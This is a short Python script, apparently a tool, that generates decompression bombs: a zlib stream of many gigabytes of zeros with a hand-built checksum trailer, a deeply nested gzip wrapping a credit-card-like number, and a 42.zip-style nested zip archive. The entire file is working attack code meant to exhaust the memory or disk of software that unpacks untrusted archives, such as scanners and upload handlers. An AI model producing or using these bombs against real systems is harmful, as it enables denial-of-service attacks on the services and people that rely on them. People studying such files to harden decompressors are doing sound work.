"""bomb.py - small files of which much would become, if one let it

usage: bomb.py zeros [GIB]    zlib: GIB (10) of zeros, 1 MiB a GiB
       bomb.py gzip DEPTH     gzip of gzip of ... of a card number
       bomb.py 42 [DEPTH]     zip of 16 zips of 16 zips ... of 16 MiB of zeros
"""
import io
import struct
import sys
import zipfile
import zlib


def zeros(gib):
    """Flushed so that it is the same bytes again for each piece."""
    piece = bytes(16 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    same = c.compress(piece) + c.flush(zlib.Z_FULL_FLUSH)
    yield b"\x78\xda"
    for _ in range(gib * 64):
        yield same
    # Adler-32 of n zeros: the low half stays 1, the high half is n.
    yield b"\x03\x00" + struct.pack(">I", (gib << 30) % 65521 << 16 | 1)


def gzips(depth):
    data = b"4539578763621486 12/27\n"
    for _ in range(depth):
        c = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = c.compress(data) + c.flush()
    yield data


def forty_two(depth):
    data = bytes(16 << 20)
    for _ in range(depth):
        f = io.BytesIO()
        with zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(16):
                z.writestr(zipfile.ZipInfo(f"{i}"), data,
                           zipfile.ZIP_DEFLATED)
        data = f.getvalue()
    yield data


n = int(sys.argv[2]) if len(sys.argv) > 2 else None
made = {"zeros": lambda: zeros(n or 10), "gzip": lambda: gzips(n or 100),
        "42": lambda: forty_two(n or 4)}[sys.argv[1]]()
for some in made:
    sys.stdout.buffer.write(some)
